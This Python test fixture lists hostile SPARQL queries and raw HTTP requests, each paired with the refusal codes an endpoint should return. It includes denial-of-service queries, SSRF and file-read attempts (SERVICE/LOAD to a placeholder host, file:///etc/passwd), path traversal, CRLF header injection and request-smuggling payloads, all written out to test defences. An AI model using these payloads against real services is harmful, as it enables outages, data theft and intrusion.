"""Queries and requests that were made to harm: what each is, and how a service may refuse it."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final, NamedTuple
from urllib.parse import quote, urlencode

ELSEWHERE: Final = "http://elsewhere.example:80/"
"""Stands for an address that must see no connection; whoever asks puts one of their own in its place."""

QUERY_BYTES: Final = 32_768

HEAVY: Final = frozenset({"query-timed-out", "query-out-of-memory", "query-too-large"})
"""The limits of a query that is run."""
FORBIDDEN: Final = frozenset({"query-forbidden", "query-malformed"})
NO_GRAPH: Final = frozenset({"bad-parameter", "bad-moment", "unavailable"})
LONG: Final = frozenset({"query-too-long"})
DEEP: Final = frozenset({"query-too-deep"})
NO_QUERY: Final = frozenset({"query-malformed"})
UNREAD: Final = frozenset({"bad-request", "query-malformed"})


class Attack(NamedTuple):
    """Something hostile.

    Attributes:
        name: What it tries.
        query: The query.
        refused: The kinds of problem that it may be refused with.
        may_answer: Whether it may be answered as well, where it can be within the limits.
        more: Further parameters of the protocol.
        accept: In which form the answer is wanted.
    """

    name: str
    query: str
    refused: frozenset[str] = HEAVY
    may_answer: bool = False
    more: tuple[tuple[str, str], ...] = ()
    accept: str = "*/*"


_EVERYTHING = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i ."
_DOUBLED = " ".join(f"BIND(CONCAT(?v{n}, ?v{n}) AS ?v{n + 1})" for n in range(30))
_OPTIONALS = " ".join(f"OPTIONAL {{ ?x{n} ?y{n} ?z{n} }}" for n in range(6))
_HUNDRED = " ".join(f"{n}" for n in range(100))
_VALUES = " ".join(f"VALUES ?v{n} {{ {_HUNDRED} }}" for n in range(5))
_NESTED = "FILTER NOT EXISTS { ?a ?b ?c . ?d ?e ?f . " * 4 + "FILTER(?a = ?f) " + "}" * 4
_WORDS = "word " * 5_000

EVALUATED: Final = (
    Attack("product, counted", f"SELECT (COUNT(*) AS ?n) {{ {_EVERYTHING} ?j ?k ?l }}"),
    Attack("product, with rows", f"SELECT * {{ {_EVERYTHING} }}"),
    Attack("product, with rows, as XML", f"SELECT * {{ {_EVERYTHING} }}", accept="application/sparql-results+xml"),
    Attack("product, asked in vain", f"ASK {{ {_EVERYTHING} FILTER(CONCAT(STR(?a), STR(?f)) = STR(?h)) }}"),
    Attack("product, in order", f"SELECT * {{ {_EVERYTHING} }} ORDER BY ?i ?a LIMIT 5"),
    Attack(
        "product, distinct", f"SELECT (COUNT(DISTINCT CONCAT(STR(?a), STR(?f), STR(?h))) AS ?n) {{ {_EVERYTHING} }}"
    ),
    Attack("product, reduced to nothing", f"SELECT DISTINCT ?z {{ {_EVERYTHING} FILTER(?b = ?e && ?c = ?i && ?z) }}"),
    Attack("product, in groups", f"SELECT ?a (COUNT(?i) AS ?n) {{ {_EVERYTHING} }} GROUP BY ?a ?f ?i"),
    Attack(
        "four million rows", "SELECT * { { SELECT ?a { ?a ?b ?c } LIMIT 2000 } { SELECT ?d { ?d ?e ?f } LIMIT 2000 } }"
    ),
    Attack(
        "path of anything, both ends free", "SELECT (COUNT(*) AS ?n) { ?a (<urn:a>|!<urn:b>)* ?z . ?y !<urn:c>* ?x }"
    ),
    Attack("star of a star", "SELECT (COUNT(*) AS ?n) { ?a ((!<urn:x>)*)* ?z . ?z ((!<urn:x>)*)* ?y }"),
    Attack(
        "alternatives in alternatives",
        f"SELECT (COUNT(*) AS ?n) {{ ?a {'(' * 20}!<urn:x>{'|^!<urn:x>)+' * 20} ?z . "
        "?z !<urn:x>+ ?y . ?y !<urn:x>+ ?x }",
    ),
    Attack(
        "inverse and forward", "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>/^!<urn:x>)* ?z . ?z (!<urn:x>/^!<urn:x>)* ?y }"
    ),
    Attack(
        "paths over literals", "SELECT (COUNT(*) AS ?n) { ?a !<urn:x>* ?v . FILTER(ISLITERAL(?v)) ?w !<urn:x>* ?v }"
    ),
    Attack(
        "a text that doubles thirty times", f'SELECT (STRLEN(?v30) AS ?n) {{ BIND("0123456789" AS ?v0) {_DOUBLED} }}'
    ),
    Attack(
        "a text that grows by REPLACE",
        f'SELECT ?x {{ BIND("{"x" * 100}" AS ?a) BIND(REPLACE(?a, "x", ?a) AS ?b) BIND(REPLACE(?b, "x", ?b) AS ?c) '
        'BIND(REPLACE(?c, "x", ?c) AS ?x) }',
    ),
    Attack("one text of everything", f"SELECT (GROUP_CONCAT(STR(?c)) AS ?t) {{ {_EVERYTHING} }}"),
    Attack(
        "one long literal for each row",
        f'SELECT ("{"x" * 30_000}" AS ?long) ?a ?d {{ ?a ?b ?c . ?d ?e ?f }}',
        may_answer=False,
    ),
    Attack(
        "a long literal multiplied",
        f'SELECT (COUNT(?t) AS ?n) {{ BIND("{_WORDS}" AS ?w) {_EVERYTHING} BIND(CONCAT(?w, STR(?a), ?w) AS ?t) }}',
    ),
    Attack("a hundred to the fifth", f"SELECT (COUNT(*) AS ?n) {{ {_VALUES} }}"),
    Attack("a hundred to the fifth, in order", f"SELECT * {{ {_VALUES} }} ORDER BY DESC(?v4) LIMIT 1"),
    Attack("six optionals", f"SELECT (COUNT(*) AS ?n) {{ {_OPTIONALS} }}"),
    Attack("NOT EXISTS in NOT EXISTS", f"SELECT (COUNT(*) AS ?n) {{ ?s ?p ?o . ?q ?r ?t {_NESTED} }}"),
    Attack(
        "MINUS of products", f"SELECT (COUNT(*) AS ?n) {{ {_EVERYTHING} MINUS {{ ?a ?b ?c . ?j ?k ?l . ?m ?n ?o }} }}"
    ),
    Attack("an offset beyond everything", f"SELECT * {{ {_EVERYTHING} }} OFFSET 9000000000000000000"),
    Attack("an offset that overflows", "SELECT * { ?s ?p ?o } OFFSET 99999999999999999999999", NO_QUERY | HEAVY),
    Attack("a graph of products", f"CONSTRUCT {{ ?a ?e ?i . ?d ?b ?c }} WHERE {{ {_EVERYTHING} }}"),
    Attack(
        "a graph of products, as RDF/XML",
        f"CONSTRUCT {{ ?a ?e ?i }} WHERE {{ {_EVERYTHING} }}",
        accept="application/rdf+xml",
    ),
    Attack("a graph of new nodes", f"CONSTRUCT {{ [] ?b [ ?e [ ?h ?i ] ] }} WHERE {{ {_EVERYTHING} }}"),
    Attack("everything described", f"DESCRIBE * {{ {_EVERYTHING} }}"),
    Attack("a flood of new nodes", f"SELECT (BNODE() AS ?n) (BNODE(STR(?a)) AS ?m) {{ {_EVERYTHING} }}"),
    Attack("a flood of UUIDs", f"SELECT (COUNT(DISTINCT ?u) AS ?n) {{ {_EVERYTHING} BIND(STRUUID() AS ?u) }}"),
    Attack("a flood of hashes", f"SELECT (COUNT(DISTINCT ?u) AS ?n) {{ {_EVERYTHING} BIND(SHA512(STR(?c)) AS ?u) }}"),
    Attack(
        "a regular expression with no end",
        f'SELECT (COUNT(*) AS ?n) {{ BIND("{"a" * 20_000}!" AS ?t) ?s ?p ?o . ?q ?r ?v FILTER(REGEX(?t, "^(a+)+$")) }}',
        may_answer=True,
    ),
    Attack(
        "a regular expression that is large",
        'SELECT * { ?s ?p ?o . ?q ?r ?t FILTER(REGEX(STR(?o), "((a{1,100}){1,100}){1,100}")) }',
        may_answer=True,
    ),
    Attack(
        "a regular expression for each row",
        f'SELECT (COUNT(*) AS ?n) {{ {_EVERYTHING} FILTER(REGEX(STR(?c), CONCAT("(", STR(?f), ")*$"), "i")) }}',
    ),
    Attack(
        "aggregates in aggregates",
        f"SELECT (MAX(?n) AS ?m) {{ {{ SELECT ?i (COUNT(*) AS ?n) {{ {_EVERYTHING} }} GROUP BY ?i }} }}",
    ),
    Attack("a chain of sums", "SELECT * { ?s ?p ?o FILTER(1" + "+1" * 16_000 + " = 2) }", may_answer=True),
    Attack(
        "a chain of paths", "SELECT (COUNT(*) AS ?n) { ?s " + "/".join(["!<urn:a>*"] * 300) + " ?o }", may_answer=True
    ),
    Attack("a chain of unions", "SELECT * { " + " UNION ".join(["{?s ?p ?o}"] * 1_700) + " }", may_answer=True),
    Attack(
        "a chain of alternatives",
        "SELECT (COUNT(*) AS ?n) { ?s (" + "|".join(["!<urn:a>"] * 3_000) + ")+ ?o }",
        may_answer=True,
    ),
)
"""What only running it shows to be too much."""

_SERVICE = f"{{ SERVICE <{ELSEWHERE}> {{ ?s ?p ?o }} }}"
REACHING: Final = (
    Attack("SERVICE", f"SELECT * {_SERVICE}", FORBIDDEN),
    Attack("SERVICE SILENT", f"SELECT * {{ SERVICE SILENT <{ELSEWHERE}> {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack("SERVICE in mixed case", f"SELECT * {{ sErViCe <{ELSEWHERE}> {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack("SERVICE without space", f"SELECT*{{SERVICE<{ELSEWHERE}>{{?s ?p ?o}}}}", FORBIDDEN),
    Attack("SERVICE behind a comment", f"SELECT * {{ SERVICE #x\n<{ELSEWHERE}> {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack("SERVICE after a carriage return", f"SELECT * {{ #\rSERVICE <{ELSEWHERE}> {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack(
        "SERVICE by a variable", f"SELECT * {{ VALUES ?x {{ <{ELSEWHERE}> }} SERVICE ?x {{ ?s ?p ?o }} }}", FORBIDDEN
    ),
    Attack("SERVICE by a name", f"PREFIX e: <{ELSEWHERE}> SELECT * {{ SERVICE e:x {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack("SERVICE run into a name", f"PREFIX e: <{ELSEWHERE}> SELECT * {{ SERVICEe:x {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack("SERVICE as a prefix", f"PREFIX : <{ELSEWHERE}> SELECT * {{ SERVICE:x {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack("SERVICE in EXISTS", f"SELECT * {{ ?s ?p ?o FILTER EXISTS {_SERVICE} }}", FORBIDDEN),
    Attack("SERVICE in a subquery", f"SELECT * {{ {{ SELECT * {_SERVICE} }} }}", FORBIDDEN),
    Attack("SERVICE in MINUS", f"SELECT * {{ ?s ?p ?o MINUS {_SERVICE} }}", FORBIDDEN),
    Attack("SERVICE in a graph", f"CONSTRUCT {{ ?s ?p ?o }} {_SERVICE}", FORBIDDEN),
    Attack("SERVICE in an escape", f"SELECT * {{ \\u0053ERVICE <{ELSEWHERE}> {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack("SERVICE behind true", f"SELECT * {{ ?s ?p trueSERVICE<{ELSEWHERE}> {{ ?s ?p ?o }} }}", FORBIDDEN),
    Attack("SERVICE in a comparison", f"SELECT * {{ FILTER(1<?b)SERVICE#>\n<{ELSEWHERE}>{{?s ?p ?o}} }}", FORBIDDEN),
    Attack("FROM elsewhere", f"SELECT * FROM <{ELSEWHERE}x.ttl> {{ ?s ?p ?o }}", NO_GRAPH),
    Attack("FROM a file", "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }", NO_GRAPH),
    Attack("FROM NAMED elsewhere", f"SELECT * FROM NAMED <{ELSEWHERE}x.ttl> {{ GRAPH ?g {{ ?s ?p ?o }} }}", NO_GRAPH),
    Attack("GRAPH elsewhere", f"SELECT * {{ GRAPH <{ELSEWHERE}x.ttl> {{ ?s ?p ?o }} }}", NO_GRAPH),
    Attack("GRAPH of a file", "SELECT * { GRAPH <file:///etc/passwd> { ?s ?p ?o } }", NO_GRAPH),
    Attack("the protocol's graph elsewhere", "ASK {}", NO_GRAPH, more=(("default-graph-uri", f"{ELSEWHERE}x.ttl"),)),
    Attack("the protocol's graph is a file", "ASK {}", NO_GRAPH, more=(("named-graph-uri", "file:///etc/passwd"),)),
    Attack("LOAD", f"LOAD <{ELSEWHERE}x.ttl>", FORBIDDEN),
    Attack("LOAD of a file", "LOAD <file:///etc/passwd> INTO GRAPH <urn:g>", FORBIDDEN),
    Attack("an update", f"INSERT {{ ?s ?p ?o }} WHERE {_SERVICE}", FORBIDDEN),
    Attack("an update beside a query", "ASK {}", FORBIDDEN, more=(("update", f"LOAD <{ELSEWHERE}x.ttl>"),)),
)
"""What would send a request, or read a file."""

_DAYS = [f"http://localhost:8000/graph/{2018 + n // 336}-{n // 28 % 12 + 1:02}-{n % 28 + 1:02}" for n in range(1_000)]
WRITTEN: Final = (
    Attack("braces, five thousand deep", "SELECT * " + "{" * 5_000 + "}" * 5_000, DEEP),
    Attack("brackets, five thousand deep", f"SELECT * {{ FILTER({'(' * 5_000}1{')' * 5_000}) }}", DEEP),
    Attack("negations, twenty thousand", f"SELECT * {{ ?s ?p ?o FILTER({'!' * 20_000}?o) }}", DEEP),
    Attack("signs, ten thousand", f"SELECT * {{ ?s ?p ?o FILTER({'-+' * 5_000}1) }}", DEEP),
    Attack("nodes, five thousand deep", f"SELECT * {{ ?s ?p {'[?p ' * 5_000}1{']' * 5_000} }}", DEEP),
    Attack("lists, five thousand deep", f"SELECT * {{ ?s ?p {'(' * 5_000}1{')' * 5_000} }}", DEEP),
    Attack("paths, ten thousand deep", f"SELECT * {{ ?s {'(' * 10_000}<urn:a>{')' * 10_000} ?o }}", DEEP),
    Attack("quoted triples, three hundred deep", f"SELECT * {{ ?s ?p {'<<( ?s ?p ' * 300}1{')>>' * 300} }}", DEEP),
    Attack("reified triples, three hundred deep", f"SELECT * {{ ?s ?p {'<< ?s ?p ' * 300}1{'>>' * 300} }}", DEEP),
    Attack("braces that never close", "SELECT * " + "{" * 5_000, DEEP),
    Attack("a query of a million bytes", "SELECT * { ?s ?p ?o } #" + "x" * 1_000_000, LONG),
    Attack("a query one byte too long", "ASK {}".ljust(QUERY_BYTES + 1), LONG),
    Attack(
        "two hundred thousand alternatives",
        f"SELECT * {{ ?s ?p ?o FILTER(?o IN ({','.join(['1'] * 200_000)})) }}",
        LONG,
    ),
    Attack("a literal of ten million", f'SELECT ("{"x" * 10_000_000}" AS ?x) {{}}', LONG),
    Attack(
        "a thousand graphs", f"SELECT * {' '.join(f'FROM <{day}>' for day in _DAYS)} {{ ?s ?p ?o }}", LONG | NO_GRAPH
    ),
    Attack(
        "six hundred named graphs",
        "PREFIX g: <http://localhost:8000/graph/> SELECT (COUNT(*) AS ?n) "
        + " ".join(f"FROM NAMED g:{day.rpartition('/')[2]}" for day in _DAYS[:600])
        + " { GRAPH ?g { ?s ?p ?o } GRAPH ?h { ?x ?y ?z } }",
        HEAVY | NO_GRAPH,
    ),
    Attack(
        "two hundred graphs of the protocol",
        "SELECT (COUNT(*) AS ?n) { GRAPH ?g { ?s ?p ?o } }",
        HEAVY | NO_GRAPH | LONG,
        may_answer=True,
        more=tuple(("named-graph-uri", day) for day in _DAYS[:200]),
    ),
    Attack(
        "the history ten times",
        "SELECT (COUNT(*) AS ?n) { " + "GRAPH <graph/history> { ?s ?p ?o . ?a ?b ?c } " * 10 + "}",
        HEAVY | NO_GRAPH,
    ),
    Attack("a byte of nothing", "SELECT * { ?s ?p ?o }\x00", NO_QUERY),
    Attack("a byte of nothing in a string", 'SELECT ("\x00" AS ?x) {}', HEAVY | NO_QUERY, may_answer=True),
    Attack("a string that never ends", 'SELECT * { ?s ?p """' + "x" * 30_000, NO_QUERY),
    Attack("half a character", 'SELECT ("\\uD800" AS ?x) {}', NO_QUERY),
    Attack(
        "a prefix that grows",
        "".join(f"PREFIX p{n}: <p{n}:{'x' * 90}>\n" for n in range(280)) + "ASK { ?s p1:x ?o }",
        may_answer=True,
    ),
    Attack(
        "nothing but bases",
        "".join(f"BASE <http://h/{'x' * 40}/>\n" for _ in range(500)) + "ASK { <a> <b> <c> }",
        may_answer=True,
    ),
    Attack("no moment", "ASK {}", frozenset({"bad-moment"}), more=(("known", "9" * 10_000),)),
)
"""What its words alone show to be too much."""

ATTACKS: Final = (*EVALUATED, *REACHING, *WRITTEN)


def _raw() -> Iterator[tuple[str, bytes]]:
    top = "Host: localhost\r\n"
    form = f"POST /sparql HTTP/1.1\r\n{top}Content-Type: application/x-www-form-urlencoded\r\n"
    body = f"POST /sparql HTTP/1.1\r\n{top}Content-Type: application/sparql-query\r\n"
    many = "".join(f"X-{n}: y\r\n" for n in range(10_000))
    yield (
        "a header of a megabyte",
        f"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\n{top}Accept: {'a/b,' * 250_000}\r\n\r\n".encode(),
    )
    yield "an address of a megabyte", f"GET /sparql?query={'x' * 1_000_000} HTTP/1.1\r\n{top}\r\n".encode()
    yield (
        "ten thousand headers",
        f"GET / HTTP/1.1\r\n{top}{many}\r\n".encode(),
    )
    yield (
        "many forms to choose from",
        f"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\n{top}Accept: {'a/b;q=0.1,' * 9_000}*/*\r\n\r\n".encode(),
    )
    yield "bytes that are no UTF-8", f"GET /sparql?query=ASK%7B%7D%FF%FE&at=%C3%28 HTTP/1.1\r\n{top}\r\n".encode()
    yield "a form that is no UTF-8", f"{form}Content-Length: 10\r\n\r\nquery=%FF%".encode()
    yield "a body that is no UTF-8", f"{body}Content-Length: 4\r\n\r\n".encode() + b"\xff\xfeAS"
    yield "nothing, encoded", f"GET /sparql?query=ASK%7B%7D%00 HTTP/1.1\r\n{top}\r\n".encode()
    yield (
        "encoded twice",
        f"GET /sparql?{urlencode({'query': quote(f'SELECT * {_SERVICE}')})} HTTP/1.1\r\n{top}\r\n".encode(),
    )
    yield "a path out of the folder", f"GET /static/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\n{top}\r\n".encode()
    yield "a path with nothing in it", f"GET /doc/%00/%00%0d%0aX: y HTTP/1.1\r\n{top}\r\n".encode()
    yield "a header in an address", f"GET /id/municipality/1%0d%0aSet-Cookie:%20x HTTP/1.1\r\n{top}\r\n".encode()
    yield "a body of a terabyte, announced", f"{body}Content-Length: 1099511627776\r\n\r\nASK".encode()
    yield "a body over the limit", f"{body}Content-Length: 400000\r\n\r\n".encode() + b"x" * 400_000
    yield "a length that is none", f"{body}Content-Length: -5\r\n\r\nASK {{}}".encode()
    yield "two lengths", f"{body}Content-Length: 6\r\nContent-Length: 60\r\n\r\nASK {{}}".encode()
    yield (
        "chunks and a length",
        f"{body}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nASK {{}}\r\n0\r\n\r\n".encode(),
    )
    yield "a chunk of nobody's size", f"{body}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nASK".encode()
    yield (
        "ten thousand parameters",
        f"GET /sparql?{'&'.join(f'a{n}=b' for n in range(10_000))} HTTP/1.1\r\n{top}\r\n".encode(),
    )
    yield "ten thousand fields", form.encode() + _with_length("&".join(f"a{n}=b" for n in range(10_000)).encode())
    yield "no HTTP at all", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 200 + b"\r\n\r\n"
    yield "a method of a kilobyte", f"{'X' * 1_000} / HTTP/1.1\r\n{top}\r\n".encode()
    yield "another version of HTTP", f"GET / HTTP/9.9\r\n{top}\r\n".encode()
    yield "a preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"


def _with_length(body: bytes) -> bytes:
    return b"Content-Length: %d\r\n\r\n%s" % (len(body), body)


RAW: Final = dict(_raw())
"""Requests that no client library would send, by what they try."""
